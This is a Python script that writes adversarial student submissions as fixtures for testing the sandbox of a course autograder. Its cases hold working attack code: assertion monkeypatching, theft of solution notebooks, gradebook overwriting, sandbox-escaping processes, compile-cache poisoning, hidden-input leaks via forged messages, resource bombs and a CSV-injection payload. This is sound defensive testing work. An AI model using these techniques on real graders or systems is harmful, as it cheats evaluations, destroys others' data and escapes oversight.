"""Write the hostile submissions in tests/grading/fixtures/ (run once; the notebooks are committed).

    .venv/bin/python tests/grading/make_fixtures.py

Each fixture is the chapter-03 student copy (exercises/03_neurons_and_activations) as a student would
submit it, with solution cells filled in: correct code except where the case attacks or breaks
the grader. tests/test_grader.py grades them all and asserts the exact score of every task. The cases
from path_guard_bypass on attack the isolation itself (issue 20): the path guard, starting processes
that outlive the sandbox, the shared compile cache, the forbidden originals, hidden-test inputs. The
cases from kernel_memory on came from red-teaming the bubblewrap grader: memory and threads that no
limit of the process counts, files that fill the kernel's memory, forged protocol messages and exit
codes that carried a hidden input into the feedback, code that crashes the grader's parser or its
CSV writer, oversized cells, and the hidden tests' compilations in the compile cache. Attacks on the submissions folder itself (file
names, links, FIFOs) are built by tests/test_grader.py.
"""
from __future__ import annotations

import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
REPO = HERE.parents[1]
STUDENT_COPY = REPO / "exercises" / "03_neurons_and_activations" / "03_exercises.ipynb"

GOOD = {
    "sigmoid": '''def sigmoid(x):
    x = jnp.asarray(x)
    z = jnp.exp(-jnp.abs(x))
    return jnp.where(x >= 0, 1.0 / (1.0 + z), z / (1.0 + z))''',
    "sigmoid_grad": '''def sigmoid_grad(x):
    s = 1.0 / (1.0 + jnp.exp(-jnp.asarray(x)))
    return s * (1.0 - s)''',
    "relu_grad": '''def relu_grad(x):
    x = jnp.asarray(x)
    return jnp.where(x > 0, 1.0, 0.0).astype(x.dtype)''',
    "leaky_relu_grad": '''def leaky_relu_grad(x, alpha=0.01):
    x = jnp.asarray(x)
    return jnp.where(x > 0, 1.0, alpha).astype(x.dtype)''',
    "softmax": '''def softmax(x):
    x = jnp.asarray(x)
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    return e / jnp.sum(e, axis=-1, keepdims=True)''',
}
ANSWERS = {"q_saturation": "The derivative is at most 1/4 and tiny for large |x|, so gradients vanish.",
           "q_dead_relu": "A unit that is negative on all inputs gets zero gradient forever.",
           "q_softmax_shift": "exp(c) cancels between numerator and denominator."}

# What each case replaces (grade_id -> code); see the module docstring of tests/test_grader.py.
CASES = {
    "good": {},
    "infinite_loop": {
        "sigmoid": '''def sigmoid(x):
    while True:
        pass''',
        "relu_grad": GOOD["relu_grad"] + '''

i = 0
while True:  # a top-level infinite loop: the whole cell is skipped
    i += 1''',
    },
    "memory_bomb": {
        "sigmoid": '''def sigmoid(x):
    big = np.ones((40_000, 40_000))  # 12.8 GB
    return big[0, :3]''',
        "softmax": '''def softmax(x):
    buf = bytearray(16 * 2**30)
    return x''',
        "leaky_relu_grad": '''def leaky_relu_grad(x, alpha=0.01):
    huge = jnp.ones((2**17, 2**17), jnp.float32)  # 64 GB in XLA
    return huge[0, :2]''',
    },
    "sys_exit": {
        "sigmoid_grad": '''import sys
sys.exit("leaving before sigmoid_grad is defined")

''' + GOOD["sigmoid_grad"],
        "relu_grad": '''import sys

def relu_grad(x):
    sys.exit(0)''',
    },
    "os_exit": {
        "sigmoid": GOOD["sigmoid"] + '''

import os
os._exit(0)  # kills the kernel while this cell runs''',
        "relu_grad": '''import os

def relu_grad(x):
    os._exit(3)''',
    },
    "crash": {
        "sigmoid": '''import os, signal

def sigmoid(x):
    os.kill(os.getpid(), signal.SIGKILL)
    return x''',
        "relu_grad": '''import os

def relu_grad(x):
    os.abort()''',
        "softmax": '''import faulthandler

def softmax(x):
    faulthandler._sigsegv()
    return x''',
    },
    "missing_and_reordered": {"relu_grad": None, "__reverse__": True, "__drop_tests__": ["test_softmax"]},
    "edited_tests": {
        "sigmoid": "def sigmoid(x):\n    return x",
        "sigmoid_grad": "def sigmoid_grad(x):\n    return x * 0 + 0.25",
        "softmax": "def softmax(x):\n    return jnp.exp(x)",
        "__edit_tests__": {"test_sigmoid": "print('all tests passed')", "test_softmax": "pass"},
        "__drop_tests__": ["test_sigmoid_grad"],
        "__points__": 1000,
    },
    "monkeypatch": {
        "sigmoid": '''import numpy, builtins
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.array_equal = lambda *a, **k: True
jnp.allclose = lambda *a, **k: True
try:
    import grader.api as G
    G.check_function = lambda *a, **k: None
    G.compare = lambda *a, **k: None
except Exception:
    pass
builtins.AssertionError = Exception

def sigmoid(x):
    return jnp.zeros_like(jnp.asarray(x))''',
        "sigmoid_grad": "def sigmoid_grad(x):\n    return jnp.ones_like(jnp.asarray(x))",
        "relu_grad": "def relu_grad(x):\n    return jnp.ones_like(jnp.asarray(x))",
        "softmax": "def softmax(x):\n    return jnp.ones_like(jnp.asarray(x))",
    },
    "read_solutions": {
        "sigmoid": '''import glob, json, os, pathlib
import course_lib

def _steal(name):
    """Find the instructor's source notebook and exec its solution of `name`."""
    roots = [pathlib.Path(course_lib.__file__).resolve().parents[1], pathlib.Path.cwd().parent,
             pathlib.Path("/work/main"), pathlib.Path.home()]
    for root in roots:
        for path in list(root.glob("solutions/*/*.ipynb")) + list(root.glob("source/*/*.ipynb")):
            cells = json.loads(path.read_text())["cells"]
            for cell in cells:
                src = "".join(cell["source"])
                if src.startswith(f"def {name}("):
                    ns = {"jnp": jnp, "np": np}
                    exec(src, ns)
                    return ns[name]
    return None

def sigmoid(x):
    try:
        stolen = _steal("sigmoid")
    except Exception:
        stolen = None
    return stolen(x) if stolen else x''',
        "softmax": '''def softmax(x):
    try:
        text = open("/work/main/solutions/03_neurons_and_activations/03_exercises.ipynb").read()
    except Exception:
        return x
    ns = {"jnp": jnp}
    src = [c for c in json.loads(text)["cells"] if "".join(c["source"]).startswith("def softmax(")][0]
    exec("".join(src["source"]), ns)
    return ns["softmax"](x)''',
    },
    "write_files": {
        "sigmoid": GOOD["sigmoid"] + '''

import os, pathlib

def _vandalise():
    """Use the grader's command line to find the gradebook and the other submissions; overwrite them."""
    hits = 0
    try:
        args = open(f"/proc/{os.getppid()}/cmdline").read().split("\\0")
    except Exception:
        args = []
    for arg in args + ["/tmp", str(pathlib.Path.cwd().parent)]:
        p = pathlib.Path(arg)
        try:
            files = list(p.rglob("*.ipynb")) + list(p.rglob("*.csv")) + list(p.rglob("*.md")) if p.is_dir() else []
        except Exception:
            files = []
        for f in files:
            try:
                f.write_text("HACKED")
                hits += 1
            except Exception:
                pass
    for target in ("/tmp/hacked_by_student.txt", str(pathlib.Path.cwd().parent / "hacked_by_student.txt")):
        try:
            open(target, "w").write("HACKED")
        except Exception:
            pass
    return hits

_vandalise()''',
        "softmax": GOOD["softmax"].replace("def softmax(x):\n", "def softmax(x):\n    _vandalise()\n"),
    },
    "huge_output": {
        "sigmoid": GOOD["sigmoid"].replace("def sigmoid(x):\n", "def sigmoid(x):\n    print('spam ' * 2_000_000)\n")
        + "\n\nfor _ in range(20):\n    print('x' * 1_000_000)",
    },
    "bad_answers": {
        "sigmoid": "def sigmoid(x):\n    return jnp.full(jnp.shape(x), jnp.nan, jnp.float32)",
        "sigmoid_grad": "def sigmoid_grad(x):\n    return '0.25'",
        "relu_grad": "def relu_grad(x):\n    return jnp.asarray(x) > 0",
        "softmax": "def softmax(x):\n    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))\n    return e.sum(axis=-1)",
    },
    "forbidden_call": {
        "sigmoid": '''from course_lib.activations import sigmoid as _library_sigmoid

def sigmoid(x):
    return _library_sigmoid(x)''',
        "sigmoid_grad": '''from course_lib import activations

def sigmoid_grad(x):
    s = activations.sigmoid(x)  # allowed: this task forbids only activations.sigmoid_grad
    return s * (1.0 - s)''',
        "relu_grad": '''import importlib

def relu_grad(x):
    module = importlib.import_module("course_lib." + "activations")
    return getattr(module, "relu" + "_grad")(x)  # invisible to a static check: caught at run time''',
        "softmax": "def softmax(x):\n    return jax.nn.softmax(x, axis=-1)",
    },
    # ---- attacks on the isolation itself (issue 20): each attacked function raises unless the attack worked
    "path_guard_bypass": {
        "sigmoid": GOOD["sigmoid"].replace("def sigmoid(x):", "def _good_sigmoid(x):") + """

import builtins, glob, os, os.path, posixpath, sys
import course_lib

_PROJECT = os.path.dirname(os.path.dirname(os.path.realpath(course_lib.__file__)))


def _glob(pattern):
    try:
        return glob.glob(pattern)
    except Exception:
        return []


def _attack():
    # Replace what a Python-level path guard resolves paths with, then go for the files outside.
    saved = {(m, n): getattr(m, n) for m in (os, os.path, posixpath)
             for n in ("getcwd", "realpath", "abspath", "join", "normpath") if hasattr(m, n)}
    got = []

    def attempt(what, action):
        try:
            got.append(what + ": " + str(action())[:200])
        except Exception:
            pass

    try:
        os.getcwd = lambda: "/tmp"
        os.path.realpath = posixpath.realpath = lambda p, *a, **k: "/tmp/harmless"
        os.path.abspath = posixpath.abspath = os.path.normpath = posixpath.normpath = lambda p: "/tmp/harmless"
        for home in ["/root", "/home"] + _glob("/home/*"):              # a canary in the home folder
            try:
                names = os.listdir(home)
            except Exception:
                names = []
            for name in names:
                attempt("deleted " + home + "/" + name, lambda: os.remove(home + "/" + name))
        for pattern in (_PROJECT + "/grading-output/*/gradebook.csv", "/tmp/*/gradebook.csv",
                        "/tmp/*/*/gradebook.csv", "/tmp/*/*/*/gradebook.csv"):  # gradebooks of earlier runs
            for path in _glob(pattern):
                attempt("overwrote " + path, lambda: open(path, "w").write("student,points\\nHACKED,1000\\n"))
        for site in sys.path:                                            # code for every later Python
            attempt("wrote into " + site, lambda: open(site + "/zz_grader_hacked.pth", "w").write("import os\\n"))
        for path in _glob(_PROJECT + "/solutions/*/*.ipynb"):            # hidden tests
            attempt("read " + path, lambda: open(path).read()[-300:])
        attempt("read a solution", lambda: open(_PROJECT + "/solutions/03_neurons_and_activations/"
                                                "03_exercises.ipynb").read()[-300:])
        attempt("listed the project", lambda: sorted(set(os.listdir(_PROJECT)) - {".venv", "course_lib", "grader"})
                or 1 / 0)                                                # solutions/, tests/, .git, ...
        attempt("listed /tmp", lambda: [n for n in os.listdir("/tmp") if not n.startswith("child-")] or 1 / 0)
        for path in _glob("/tmp/grader-*") + _glob("/tmp/pytest-of-*"):  # other runs and sandboxes
            attempt("listed " + path, lambda: os.listdir(path))
    finally:
        for (m, n), f in saved.items():
            setattr(m, n, f)
    return got


def sigmoid(x):
    got = _attack()
    if got:
        raise RuntimeError("ATTACK WORKED: " + " | ".join(got)[:450])
    raise RuntimeError("nothing outside the sandbox was reachable")""",
    },
    "spawn_escape": {
        "sigmoid": GOOD["sigmoid"] + """

import os, sys

_ESCAPEE = '''
# grader-escapee: outlive the sandbox, then vandalise what the grader writes later
import glob, os, time
try:
    os.setsid()
except Exception:
    pass
time.sleep(4)
for pattern in ("/tmp/**/*.ipynb", "/tmp/**/gradebook.csv", "/work/**/gradebook.csv", "/root/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            open(path, "w").write("HACKED")
        except Exception:
            pass
'''


def _started(result):
    if result == 0:                 # inside a forked copy: become the escapee
        exec(_ESCAPEE)
        os._exit(0)
    return result is not None and result is not False and result != -1 and result != 32512


def _try_everything():
    import ctypes, multiprocessing, posix, subprocess, _posixsubprocess
    attempts = {
        "posix.fork": lambda: posix.fork(),
        "posix.posix_spawn": lambda: posix.posix_spawn(sys.executable, [sys.executable, "-c", _ESCAPEE], {}),
        "posix.system": lambda: posix.system(sys.executable + " -c 'import time; time.sleep(9)' &"),
        "subprocess": lambda: subprocess.Popen([sys.executable, "-c", _ESCAPEE], start_new_session=True).pid,
        "multiprocessing": lambda: multiprocessing.get_context("spawn").Process(target=os.getpid).start(),
        "_posixsubprocess": lambda: _posixsubprocess.fork_exec(
            [sys.executable, "-c", _ESCAPEE], [sys.executable.encode()], True, (), None, None, -1, -1, -1, -1, -1,
            -1, -1, -1, False, True, None, None, None, -1, None, False),
        "ctypes fork": lambda: ctypes.CDLL(None).fork(),
        "ctypes clone": lambda: ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0),
        "kill the sandbox's first process": lambda: posix.kill(1, 9) or None,
    }
    worked = []
    for name, attempt in attempts.items():
        try:
            if _started(attempt()):
                worked.append(name)
        except BaseException:
            pass
    return worked


def sigmoid(x):
    worked = _try_everything()
    if worked:
        raise RuntimeError("started a process with: " + ", ".join(worked))
    raise RuntimeError("no process could be started")""",
    },
    "cache_poison": {
        "sigmoid": GOOD["sigmoid"] + """

import glob, os


def _poison():
    # Corrupt the JAX compile cache that later students' sandboxes read: swap kernels, add entries.
    import jax
    cache = os.environ.get("JAX_COMPILATION_CACHE_DIR") or jax.config.jax_compilation_cache_dir or ""
    done = []
    entries = sorted(glob.glob(cache + "/*")) if cache else []
    exp = [e for e in entries if "jit_exp" in e]
    other = [e for e in entries if "jit_negative" in e or "jit_add" in e]
    for a, b in zip(exp, other):      # exp now computes something else, for everyone after me
        try:
            data = open(b, "rb").read()
            open(a, "wb").write(data)
            done.append("swapped " + os.path.basename(a))
        except Exception:
            pass
    for e in entries:
        try:
            os.remove(e)
            done.append("removed " + os.path.basename(e))
        except Exception:
            pass
    try:
        open(cache + "/jit_exp-0000", "wb").write(b"poison")
        done.append("added an entry")
    except Exception:
        pass
    return done


def sigmoid(x):
    done = _poison()
    if done:
        raise RuntimeError("poisoned: " + ", ".join(done)[:300])
    raise RuntimeError("the compile cache is read-only")""",
    },
    "forbid_bypass": {
        "sigmoid": """import gc, importlib, importlib.util, inspect, sys, types
import jax
import course_lib.activations as _A


def _routes(name):
    # Every way back to course_lib's own function (and JAX's) that a wrapper could leave open.
    priv = "_" + name
    yield "module attribute", lambda: getattr(_A, name)
    yield "private twin", lambda: getattr(_A, priv)
    yield "__wrapped__", lambda: getattr(_A, priv).__wrapped__
    yield "inspect.unwrap", lambda: inspect.unwrap(getattr(_A, name))
    yield "module dict", lambda: vars(_A)[name]
    yield "sys.modules", lambda: sys.modules["course_lib.activations"].__dict__[priv]
    yield "another function's globals", lambda: _A.sigmoid_grad.__globals__[name]
    yield "closures", lambda: [c.cell_contents for f in list(vars(_A).values())
                               for c in (getattr(f, "__closure__", None) or ())
                               if getattr(c.cell_contents, "__name__", "") in (name, priv)][0]
    yield "gc.get_referents", lambda: [o for o in gc.get_referents(vars(_A)) if getattr(o, "__name__", "") == name][0]
    yield "gc.get_objects", lambda: [o for o in gc.get_objects() if getattr(o, "__name__", None) == name
                                     and getattr(o, "__module__", "") == "course_lib.activations"][0]
    yield "the code object", lambda: types.FunctionType(getattr(_A, name).__code__, vars(_A))
    yield "importlib.reload", lambda: getattr(importlib.reload(_A), name)
    yield "a fresh copy of the module", lambda: getattr(_fresh_copy(), name)
    yield "jax.nn", lambda: getattr(jax.nn, name).__wrapped__
    yield "jax internals", lambda: getattr(importlib.import_module("jax._src.nn.functions"), name)


def _fresh_copy():
    spec = importlib.util.spec_from_file_location("copy_of_activations", _A.__file__)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _call_original(name, x):
    tried = []
    for route, get in _routes(name):
        try:
            return get()(x)          # a route that still leads to the original scores full marks
        except BaseException as exc:
            tried.append(f"{route}: {type(exc).__name__}")
    raise RuntimeError("no route to the original: " + "; ".join(tried))


def sigmoid(x):
    return _call_original("sigmoid", x)""",
        "softmax": "def softmax(x):\n    return _call_original(\"softmax\", x)",
    },
    "hidden_leak": {
        "sigmoid": GOOD["sigmoid"].replace("def sigmoid(x):", "def _good_sigmoid(x):") + """

import builtins, json, os, sys, types

_SEEN = []
_PLACES = ("/tmp/seen.txt", "/dev/shm/seen.txt", "/var/tmp/seen.txt", os.path.expanduser("~/seen.txt"))


def _remember(x):
    # Record every input, everywhere that might survive into a later test.
    text = json.dumps(np.asarray(x, np.float64).tolist())
    _SEEN.append(text)
    for path in _PLACES:
        try:
            with open(path, "a") as f:
                f.write(text + "\\n")
        except Exception:
            pass
    try:
        os.environ["SEEN"] = os.environ.get("SEEN", "") + text
    except Exception:
        pass
    builtins.SEEN = getattr(builtins, "SEEN", []) + [text]
    sys.modules.setdefault("seen_store", types.ModuleType("seen_store")).__dict__.setdefault("seen", []).append(text)


def _recall():
    items = list(_SEEN) + list(getattr(builtins, "SEEN", [])) + [os.environ.get("SEEN", "")]
    items += list(getattr(sys.modules.get("seen_store"), "seen", []))
    for path in _PLACES:
        try:
            items.append(open(path).read())
        except Exception:
            pass
    return " ".join(items)


def sigmoid(x):
    _remember(x)
    return _good_sigmoid(x)""",
        "relu_grad": """def relu_grad(x):
    _remember(x)
    raise ValueError("inputs seen so far: " + _recall()[-450:])""",
        "softmax": GOOD["softmax"].replace("def softmax(x):", "def _good_softmax(x):") + """


def softmax(x):
    _remember(x)
    if np.shape(x) in ((1, 3), (2,)):        # the visible tests: pass them
        return _good_softmax(x)
    code = "_".join(str(int(abs(v))) for v in np.ravel(np.asarray(x))[:6])
    raise type("Leak_" + code, (Exception,), {})("hidden input " + json.dumps(np.asarray(x).tolist())[:300])""",
    },
    # ---- attacks found by red-teaming the bubblewrap grader (each fails, or the attacked task scores 0)
    "kernel_memory": {
        "sigmoid": GOOD["sigmoid"].replace("def sigmoid(x):", "def _good_sigmoid(x):") + """

import ctypes, os


def _memory_no_limit_counts():
    # Memory outside the address-space limit: a memfd or a System V segment keeps its pages when
    # nothing maps them. 256 memfds x 32 MB would be 8 GB per process.
    got = []
    try:
        fd = os.memfd_create("x")
        os.write(fd, bytes(16 * 2**20))
        got.append("memfd")
    except OSError:
        pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.shmget(0, 16 * 2**20, 0o1600) >= 0:
            got.append("shmget")
        if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0:  # io_uring_setup
            got.append("io_uring")
    except OSError:  # (the audit hook refuses ctypes; the kernel does not)
        pass
    return got


def sigmoid(x):
    got = _memory_no_limit_counts()
    if got:
        raise RuntimeError("ATTACK WORKED: " + ", ".join(got))
    raise RuntimeError("no memory outside the limits")""",
    },
    "thread_bomb": {
        "sigmoid": """import threading


def sigmoid(x):
    # Without a kernel-enforced process limit, threads with tiny stacks fill the machine's process table.
    threading.stack_size(32768)
    stop = threading.Event()
    started = 0
    try:
        for _ in range(1500):
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    stop.set()
    if started >= 1500:
        raise RuntimeError("ATTACK WORKED: 1500 threads")
    raise RuntimeError("the thread limit held")""",
    },
    "file_flood": {
        "sigmoid": """import os


def sigmoid(x):
    # Empty files cost kernel memory that no limit of the process counts (and the 64 MB /tmp does not).
    for i in range(40_000):
        os.close(os.open(f"f{i}", os.O_CREAT | os.O_WRONLY))
    raise RuntimeError("ATTACK WORKED: 40000 files")""",
    },
    "hidden_exit_leak": {
        "relu_grad": """import json, os, struct
import numpy as np


def _tmp_fd():
    # /tmp itself, past the audit hook (which resolves ".." against the working folder, not dir_fd)
    here = os.getcwd()
    os.makedirs("a", exist_ok=True)
    fd = os.open(".", os.O_RDONLY)
    os.chdir("a")
    try:
        return os.open("..", os.O_RDONLY, dir_fd=fd)
    finally:
        os.chdir(here)


def relu_grad(x):
    x = np.asarray(x)
    if x.shape != (3,):  # a hidden input: keep it for the next process
        fd = os.open("seen", os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=_tmp_fd())
        os.write(fd, json.dumps(x.ravel().tolist()).encode())
    return (x > 0).astype(x.dtype)""",
        "leaky_relu_grad": GOOD["leaky_relu_grad"] + """


def _forge_and_exit(code):
    # Claim this cell is done (a message only the grader's code should write), then exit: the grader
    # thought no cell was running, and showed the exit status in the feedback of every later task.
    body = json.dumps({"op": "cell_done", "id": "leaky_relu_grad", "error": None}).encode()
    os.write(4, struct.pack("<QQ", len(body), 0) + body)
    os._exit(code)


try:
    _seen = json.loads(os.read(os.open("seen", os.O_RDONLY, dir_fd=_tmp_fd()), 1 << 16))
except OSError:
    _seen = None
if _seen:
    _forge_and_exit(int(round(_seen[0] * 50)) % 256)   # a hidden input, one byte at a time
elif int(os.getcwd().rpartition("-")[2]) > 4:  # the hidden tests' processes from leaky_relu_grad's on
    _forge_and_exit(77)""",
    },
    "parser_bombs": {
        "relu_grad": GOOD["relu_grad"] + "\n\n_X = " + "1 + " * 5000 + "1  # too deep for the grader's parser\n",
        "softmax": """def softmax(x):
    raise ValueError("bad \\udcff\\x00 =cmd|' /C calc'!A0 \\x1b]0;owned\\x07\\x1b[2J \\u202eexe.txt")""",
    },
    "huge_cell": {"sigmoid": GOOD["sigmoid"] + "\n\n_DATA = [" + "0," * 40_000 + "]\n"},
    "cache_snoop": {
        "sigmoid": """import os
import jax


def sigmoid(x):
    # The compile cache was filled by the source notebook's tests, hidden ones included: its entries
    # (one per operation and input shape) would tell the hidden tests' shapes to a visible failure.
    cache = jax.config.jax_compilation_cache_dir.rstrip("/")
    if os.path.basename(cache) != "visible":  # one cache for every test
        raise RuntimeError(f"ATTACK WORKED: all {len(os.listdir(cache))} compilations of the tests are readable")
    seen = {}
    for phase in ("visible", "hidden"):
        try:
            seen[phase] = len(os.listdir(os.path.join(os.path.dirname(cache), phase)))
        except OSError as exc:
            seen[phase] = type(exc).__name__
    if isinstance(seen["hidden"], int):
        raise RuntimeError(f"ATTACK WORKED: {seen['hidden']} compilations of hidden tests are readable")
    raise RuntimeError(f"hidden compilations unreadable ({seen['hidden']}); visible ones: {seen['visible'] > 0}")""",
    },
}


def build(case: str, spec: dict) -> dict:
    nb = json.loads(STUDENT_COPY.read_text())
    cells = []
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in spec and spec[gid] is None:
            continue
        if gid in spec.get("__drop_tests__", []):
            continue
        if cell["cell_type"] == "code" and cell["metadata"]["nbgrader"].get("solution"):
            cell["source"] = spec.get(gid, GOOD[gid])
        if gid in ANSWERS:
            cell["source"] = ANSWERS[gid]
        if gid in spec.get("__edit_tests__", {}):
            cell["source"] = spec["__edit_tests__"][gid]
        if "__points__" in spec and cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"]["points"] = spec["__points__"]
        cells.append(cell)
    if spec.get("__reverse__"):
        cells = cells[::-1]
    nb["cells"] = cells
    return nb


def copy_submissions(folder: pathlib.Path, cases, honest=()) -> pathlib.Path:
    """A submissions folder <folder>/submissions holding the committed fixtures ``cases`` and, under
    the names ``honest``, copies of the correct one (``good``); used by tests/test_grader.py and
    tests/test_cluster.py."""
    import shutil

    subs = pathlib.Path(folder) / "submissions"
    subs.mkdir()
    for case in cases:
        shutil.copy(HERE / "fixtures" / f"{case}.ipynb", subs / f"{case}.ipynb")
    for name in honest:
        shutil.copy(HERE / "fixtures" / "good.ipynb", subs / f"{name}.ipynb")
    return subs


def main():
    out = HERE / "fixtures"
    out.mkdir(exist_ok=True)
    for case, spec in CASES.items():
        (out / f"{case}.ipynb").write_text(json.dumps(build(case, spec), indent=1) + "\n")
    good = json.loads((out / "good.ipynb").read_text())
    (out / "invalid_json.ipynb").write_text(json.dumps(good, indent=1)[:3000] + "\n")
    print(f"wrote {len(CASES) + 1} fixtures to {out}")


if __name__ == "__main__":
    main()
